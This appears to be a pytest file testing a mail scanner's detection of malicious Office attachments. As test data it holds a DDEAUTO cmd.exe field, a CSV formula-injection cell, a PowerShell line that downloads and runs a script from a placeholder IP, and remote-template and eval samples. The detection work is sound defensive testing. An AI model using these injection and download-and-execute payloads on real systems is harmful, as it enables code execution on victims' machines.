"""Office documents judged with oletools and msoffcrypto-tool (HUE-11.5, issue 13).

Risky samples are real formats built by tests/office_samples.py (MS-OVBA compressed VBA,
BIFF8 macro sheets, Word field codes, OLE Package objects, RTF objects, ECMA-376
encryption); benign ones were made by LibreOffice (tests/corpus/office/benign/). Every
risky sample must be at least quarantined; no benign one may raise any finding."""

from __future__ import annotations

import logging
import random
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from congvu_guard.detectors import office
from congvu_guard.engine import Engine
from congvu_guard.model import Action, Verdict
from tests import helpers, samples
from tests import office_samples as S

BENIGN = Path(__file__).parent / "corpus" / "office" / "benign"
BLOCK = (Action.QUARANTINE, Action.REJECT)
DDE_CMD = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'


def judge(engine: Engine, name: str, data: bytes, body: str = "Xem tep dinh kem.") -> Verdict:
    raw = samples.mime_message("s", [(name, "application/octet-stream", data)], body=body)
    return helpers.judge(engine, raw)


def _big_docx(macros: dict[str, str] | None = None) -> bytes:
    # msoffcrypto-tool 6.1 cannot round-trip a package under 4 KB; real documents are larger.
    return S.docx("".join(f"<w:p><w:r><w:t>Bao cao {i} {i * 7919 % 1000003}</w:t></w:r></w:p>"
                          for i in range(1500)), macros=macros)


RISKY = {
    # file name: (builder, rule that must be found, action)
    "bao-cao.docm": (lambda: S.docx(macros=S.AUTO_OPEN), "HUE-11.5/macro", Action.REJECT),
    "tinh-luong.docm": (lambda: S.docx(macros=S.NO_AUTO), "HUE-11.5/macro",
                        Action.QUARANTINE),
    "cong-van.doc": (lambda: S.word_doc_with_macros(S.AUTO_OPEN), "HUE-11.5/macro",
                     Action.REJECT),
    "bang-luong.xls": (lambda: S.xls(modules={"ThisWorkbook": "Private Sub Workbook_Open()\n"
                                              "End Sub\n"}), "HUE-11.5/macro", Action.REJECT),
    "so-lieu.xls": (lambda: S.xls(macro_sheet=True), "HUE-11.5/xlm", Action.REJECT),
    "so-lieu.xlsm": (S.xlsm_with_macro_sheet, "HUE-11.5/xlm", Action.REJECT),
    "bang.slk": (S.sylk_with_macros, "HUE-11.5/xlm", Action.REJECT),
    "so-lieu.xlsb": (S.xlsb_with_macro_sheet, "HUE-11.5/xlm", Action.REJECT),
    "lien-ket.xlsx": (S.xlsx_with_dde_link, "HUE-11.5/dde", Action.REJECT),
    "thu-moi.docx": (S.docx_with_dde, "HUE-11.5/dde", Action.REJECT),
    "thu-moi.doc": (lambda: S.word_doc(fields=(DDE_CMD,)), "HUE-11.5/dde", Action.REJECT),
    "thu-moi.rtf": (S.rtf_with_dde, "HUE-11.5/dde", Action.REJECT),
    "thu-moi-tach.rtf": (lambda: b"{\\rtf1{\\field{\\*\\fldinst {D}{\\b DE}AUTO c:\\\\windows"
                                 b"\\\\system32\\\\cmd.exe \"/k calc.exe\"}{\\fldrslt x}}\\par}",
                         "HUE-11.5/dde", Action.REJECT),
    "bang-ke.csv": (lambda: b"STT,Ten\r\n1,=cmd|' /C calc.exe'!A0\r\n", "HUE-11.5/dde",
                    Action.REJECT),
    "hop-dong.docx": (S.docx_with_remote_template, "HUE-11.5/external-ref", Action.REJECT),
    "hop-dong-unc.docx": (lambda: S.docx_with_remote_template("\\\\203.0.113.9\\share\\t.dotm"),
                          "HUE-11.5/external-ref", Action.REJECT),
    "ho-so.doc": (lambda: S.doc_with_package("calc.exe", samples.pe_exe()), "HUE-11.5/exec",
                  Action.REJECT),
    "ho-so-lnk.doc": (lambda: S.doc_with_package("hoa-don.lnk", samples.lnk()),
                      "HUE-11.5/lnk", Action.REJECT),
    "ho-so.rtf": (lambda: S.rtf_with_package("calc.exe", samples.pe_exe()), "HUE-11.5/exec",
                  Action.REJECT),
    "cong-thuc.rtf": (S.rtf_with_equation, "HUE-11.5/rtf-object", Action.REJECT),
    # Word takes anything starting with "{\\rt" as RTF; exploit kits write "{\\rtvpn".
    "thu-moi-rt.doc": (lambda: S.rtf_with_equation().replace(b"{\\rtf1", b"{\\rtvpn", 1),
                       "HUE-11.5/rtf-object", Action.REJECT),
    "ho-so-rt.rtf": (lambda: S.rtf_with_package("calc.exe", samples.pe_exe())
                     .replace(b"{\\rtf1", b"{\\rt", 1), "HUE-11.5/exec", Action.REJECT),
    "bao-cao-2003.xml": (lambda: S.word2003_xml(S.AUTO_OPEN), "HUE-11.5/macro", Action.REJECT),
    "bao-cao-opc.xml": (lambda: S.flat_opc(S.AUTO_OPEN), "HUE-11.5/macro", Action.REJECT),
    "bao-cao-web.doc": (lambda: S.mht(S.AUTO_OPEN), "HUE-11.5/macro", Action.REJECT),
    "cong-thuc.docx": (S.docx_with_equation, "HUE-11.5/ole-object", Action.QUARANTINE),
    "cong-thuc.doc": (S.doc_with_equation, "HUE-11.5/ole-object", Action.QUARANTINE),
    "cong-thuc.xls": (S.xls_with_equation, "HUE-11.5/ole-object", Action.QUARANTINE),
    # The font-name overflow of CVE-2017-11882 in each carrier: rejected, not only held.
    "de-thi-khai-thac.doc": (lambda: S.doc_with_equation(S.EXPLOIT_FONT), "HUE-11.5/ole-object",
                             Action.REJECT),
    "de-thi-khai-thac.docx": (lambda: S.docx_with_equation(S.EXPLOIT_FONT),
                              "HUE-11.5/ole-object", Action.REJECT),
    "bao-mat.docx": (lambda: S.encrypt_ooxml(_big_docx(), "Bi-mat-2026"),
                     "HUE-11.5/encrypted-document", Action.QUARANTINE),
    "mo-san.docm": (lambda: S.encrypt_ooxml(_big_docx(S.AUTO_OPEN), "VelvetSweatshop"),
                    "HUE-11.5/macro", Action.REJECT),
}


@pytest.mark.parametrize("name", sorted(RISKY))
def test_every_risky_office_sample_is_at_least_quarantined(engine: Engine, name: str) -> None:
    build, rule, action = RISKY[name]
    v = judge(engine, name, build())
    assert rule in v.rules, v.findings
    assert v.action is action and v.action in BLOCK, v.findings


def test_vba_source_is_stored_compressed_in_the_samples() -> None:
    """The point of the real-format samples: the entry point is not in the bytes."""
    assert b"Document_Open" not in S.docx(macros=S.AUTO_OPEN)
    assert b"Workbook_Open" not in S.xls(modules={"ThisWorkbook": "Sub Workbook_Open()\n"})


def test_auto_exec_macro_names_its_entry_points_on_the_document(engine: Engine) -> None:
    v = judge(engine, "bao-cao.docm", S.docx(macros=S.AUTO_OPEN))
    [f] = [f for f in v.findings if f.rule == "HUE-11.5/macro"]
    assert "AutoOpen" in f.detail and "Document_Open" in f.detail and "Shell" in f.detail
    assert f.fact("path") == "2/bao-cao.docm" and f.fact("type") == "ooxml"


def test_encrypted_document_notes_the_password_in_the_body(engine: Engine) -> None:
    v = judge(engine, "bao-mat.docx", S.encrypt_ooxml(_big_docx(), "123456"),
              body="Gui anh bao cao. Mat khau: 123456")
    [f] = [f for f in v.findings if f.rule == "HUE-11.5/encrypted-document"]
    assert "password given in the message body" in f.detail


def test_default_password_workbook_is_opened_and_judged(engine: Engine) -> None:
    v = judge(engine, "mo-san.docm", S.encrypt_ooxml(_big_docx(S.AUTO_OPEN),
                                                     "VelvetSweatshop"))
    assert "HUE-11.5/encrypted-document" not in v.rules
    assert any(f.fact("path").endswith(":decrypted") for f in v.findings), v.findings


def test_hyperlinks_and_mailto_are_not_external_references(engine: Engine) -> None:
    rels = ('<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/hyperlink" Target="https://thuathienhue.gov.vn/" '
            'TargetMode="External"/>')
    v = judge(engine, "lien-ket.docx", S.docx(settings_rels=rels))
    assert v.action is Action.ACCEPT, v.findings


def test_page_and_date_fields_are_not_dde(engine: Engine) -> None:
    v = judge(engine, "trang.doc", S.word_doc(fields=("PAGE", "DATE \\@ \"d/M/yyyy\"")))
    assert v.action is Action.ACCEPT, v.findings


def test_rtf_object_of_harmless_class_is_a_medium_finding(engine: Engine) -> None:
    v = judge(engine, "bieu-do.rtf", S.rtf_with_object("Excel.Chart.8", S.compound_file(
        {"Workbook": S.workbook_stream()})))
    [f] = [f for f in v.findings if f.rule == "HUE-11.5/rtf-object"]
    assert f.action is Action.QUARANTINE and "Excel.Chart.8" in f.detail


# Sniffing order (issue 13 point 4) ---------------------------------------------------------
def test_docx_quoting_a_powershell_command_is_a_document_not_a_script(engine: Engine) -> None:
    quoted = ('<w:p><w:r><w:t>Ma doc chay: powershell -nop -c "IEX (New-Object Net.WebClient)'
              ".DownloadString('http://203.0.113.7/a.ps1')\"</w:t></w:r></w:p>")
    v = judge(engine, "canh-bao.docx", S.docx(quoted))
    assert v.action is Action.ACCEPT, v.findings
    v = judge(engine, "canh-bao.docx", (BENIGN / "canh-bao.docx").read_bytes())  # LibreOffice
    assert v.action is Action.ACCEPT, v.findings


def test_saved_web_page_with_fromcharcode_is_html_not_javascript(engine: Engine) -> None:
    page = (BENIGN / "trang-tin.html").read_bytes()
    assert judge(engine, "trang-tin.html", page).action is Action.ACCEPT
    # The same script as a bare file is still one.
    js = b"var s = String.fromCharCode(99,97,108,99); eval(s);"
    assert "HUE-11.5/script" in judge(engine, "tin.txt", js).rules


def test_hta_stays_a_script_even_with_an_html_tag(engine: Engine) -> None:
    hta = b"<html><head><hta:application id=x/></head><script>x</script></html>"
    assert "HUE-11.5/script" in judge(engine, "a.html", hta).rules


# False alarms ------------------------------------------------------------------------------
BENIGN_FILES = sorted(p.name for p in BENIGN.iterdir())


def test_benign_corpus_has_the_office_kinds_official_mail_carries() -> None:
    kinds = {Path(n).suffix for n in BENIGN_FILES}
    assert {".doc", ".docx", ".xls", ".xlsx", ".rtf", ".csv", ".html"} <= kinds


@pytest.mark.parametrize("name", BENIGN_FILES)
def test_benign_office_file_raises_no_finding(engine: Engine, name: str) -> None:
    v = judge(engine, name, (BENIGN / name).read_bytes())
    assert v.action is Action.ACCEPT and not v.findings, v.findings


# Hostile input -----------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["bao-cao.docm", "cong-van.doc", "so-lieu.xls", "ho-so.rtf",
                                  "bao-mat.docx"])
def test_damaged_office_files_never_raise(engine: Engine, name: str) -> None:
    data = RISKY[name][0]()
    rng = random.Random(name)
    for i in range(12):
        damaged = bytearray(data)
        if i % 3 == 0:
            damaged = damaged[:rng.randrange(64, len(data))]
        for _ in range(rng.randrange(1, 40)):
            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
        judge(engine, name, bytes(damaged))  # any verdict, never an exception


def test_oletools_logs_nothing_on_a_damaged_file(engine: Engine, caplog, capsys) -> None:
    data = bytearray(S.docx(macros=S.AUTO_OPEN))
    vba = S.vba_project_bin(S.AUTO_OPEN)
    start = bytes(data).find(vba[:512]) if vba[:512] in data else 600
    data[start + 1200:start + 1300] = b"\xff" * 100
    with caplog.at_level(logging.DEBUG):
        judge(engine, "hong.docm", bytes(data))
        judge(engine, "hong.doc", S.word_doc_with_macros(S.AUTO_OPEN)[:3000])
    assert not [r for r in caplog.records if not r.name.startswith("congvu")]
    out = capsys.readouterr()
    assert out.err == "" and out.out == ""


def test_activemime_zlib_bomb_is_inflated_within_limits() -> None:
    from congvu_guard.detectors import office

    bomb = S.active_mime(b"\xd0\xcf\x11\xe0" + b"\0" * (200 * 1024 * 1024))
    out = office.active_mime(bomb, 64 * 1024 * 1024)
    assert 0 < len(out) <= 100 * len(bomb) + (1 << 20)
    text = f"<w:binData>{S._b64(bomb)}</w:binData>".encode()
    assert all(len(b) <= 100 * len(bomb) + (1 << 20) for b in office.embedded_ole(
        text, 64 * 1024 * 1024))


def test_forwarded_message_with_a_doc_is_judged_once(engine: Engine) -> None:
    inner = samples.mime_message("goc", [("cong-van.doc", "application/msword",
                                          S.word_doc_with_macros(S.AUTO_OPEN))])
    raw = samples.mime_message("Fwd", [("goc.eml", "message/rfc822", inner)])
    v = helpers.judge(engine, raw)
    assert len([f for f in v.findings if f.rule == "HUE-11.5/macro"]) == 1, v.findings


def test_vba_stream_that_would_decompress_to_gigabytes_is_refused(engine: Engine) -> None:
    # 6-byte chunks (header, flags, literal "a", a copy of 4,095 bytes) of 4,096 bytes each.
    chunk = b"\x03\xb0" + b"\x02" + b"a" + b"\xfc\x0f"
    from oletools import olevba

    assert len(olevba.decompress_stream(bytearray(b"\x01" + chunk * 2))) == 8192
    streams = S.vba_streams(S.AUTO_OPEN)
    streams["VBA/Module1"] = b"\x01" + chunk * 200_000  # 1.2 MB that would inflate to 800 MB
    v = judge(engine, "bom.doc", S.word_doc(extra={f"Macros/{k}": d for k, d in streams.items()}))
    assert v.action in BLOCK, v.findings
    assert "HUE-11.5/macro" in v.rules


_CSV_HINT_REGEX = re.compile(rb"[=+\-@][^\r\n|]{0,200}\|", re.S)  # the former prefilter


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from([b"=", b"+", b"-", b"@", b"|", b"\r", b"\n", b"a", b",",
                                 b"x" * 50, b"y" * 199]), max_size=40))
def test_csv_dde_hint_says_what_the_former_regex_said(pieces: list[bytes]) -> None:
    data = b"".join(pieces)
    assert office.csv_dde_hint(data) == bool(_CSV_HINT_REGEX.search(data))


def test_csv_dde_hint_on_a_megabyte_of_signs_looks_at_each_byte_a_bounded_number_of_times(
        monkeypatch: pytest.MonkeyPatch) -> None:
    # The regex tried 200 characters from each of a million '-' (2.3 s); the function
    # reads the text since the previous '|' only: counted, not timed.
    data = b"-" * 1_000_000 + b"|"
    calls: list[int] = []
    real = office._CSV_FORMULA

    class Counting:
        def search(self, buf: bytes, lo: int, hi: int) -> object:
            calls.append(hi - lo)
            return real.search(buf, lo, hi)

    monkeypatch.setattr(office, "_CSV_FORMULA", Counting())
    assert office.csv_dde_hint(data)
    assert sum(calls) <= 201


def test_an_ole_file_oletools_cannot_open_is_an_office_unreadable_finding(
        engine: Engine) -> None:
    # The OLE signature, then a header and FAT that make no sense: never a silent accept.
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(7).randbytes(4096)
    v = judge(engine, "cong-van.doc", data)
    found = {f.rule: f for f in v.findings}
    assert "HUE-11.5/office-unreadable" in found, v.findings
    assert v.action is not Action.ACCEPT


def test_documents_left_when_the_office_time_is_spent_are_quarantined_not_accepted(
        engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    from congvu_guard.detectors import office_docs

    monkeypatch.setattr(office_docs, "TIME_BUDGET_SECONDS", -1.0)
    v = judge(engine, "bao-cao.docm", S.docx(macros=S.AUTO_OPEN))
    found = {f.rule: f for f in v.findings}
    assert "HUE-11.5/office-unreadable" in found, v.findings
    assert "HUE-11.5/macro" not in found  # not inspected, and said so
    assert v.action is Action.QUARANTINE


def test_equations_libreoffice_saves_in_a_doc_are_found_where_word_keeps_objects(
        engine: Engine) -> None:
    # LibreOffice 7.4 (equation/de-thi-toan.fodt, --convert-to doc) writes each formula as an
    # Equation Editor 3.0 object in ObjectPool/_<id>/: the layout the hand-built sample
    # assumes, from the real program. Quarantined (medium), not rejected: the README's
    # trade-off for an editor Microsoft removed; the same exam as .docx, .rtf and .odt
    # carries no such object and is in benign/.
    v = judge(engine, "de-thi-toan.doc", (BENIGN.parent / "equation" / "de-thi-toan.doc")
              .read_bytes())
    assert [f.rule for f in v.findings] == ["HUE-11.5/ole-object"], v.findings
    assert v.action is Action.QUARANTINE
